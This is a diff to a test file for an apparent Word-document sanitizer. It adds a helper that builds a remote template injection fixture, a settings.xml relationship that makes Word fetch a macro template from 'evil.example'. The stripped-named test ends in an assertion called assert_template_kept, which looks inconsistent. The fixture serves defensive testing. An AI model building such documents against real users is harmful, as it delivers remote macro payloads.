@@ -300,16 +300,20 @@ def test_part_that_is_not_xml_is_refused(tmp_path: Path) -> None:
 
 
 # --- outside links -------------------------------------------------------------------------
-def test_remote_attached_template_is_stripped(tmp_path: Path) -> None:
+def remote_template_injection() -> bytes:
     """The remote template injection trick: Word fetches the .dotm named in settings."""
     data = edited(
         "word/settings.xml",
         b"<w:defaultTabStop",
         b'<w:attachedTemplate r:id="rIdT"/><w:defaultTabStop',
     )
-    data = with_relationship(
+    return with_relationship(
         data, "word/settings.xml", "rIdT", f"{R}/attachedTemplate", "https://evil.example/t.dotm"
     )
+
+
+def test_remote_attached_template_is_stripped(tmp_path: Path) -> None:
+    data = remote_template_injection()
     path = write(tmp_path, data)
     output = exported_safely(path)
     assert_template_kept(output)
